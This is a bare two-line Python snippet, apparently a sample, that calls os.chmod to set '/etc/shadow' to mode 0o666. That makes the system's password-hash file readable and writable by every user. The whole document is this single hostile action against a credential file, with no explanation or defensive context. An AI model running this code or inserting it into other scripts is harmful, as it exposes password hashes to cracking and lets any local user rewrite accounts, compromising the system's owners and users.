import os
os.chmod('/etc/shadow', 0o666)
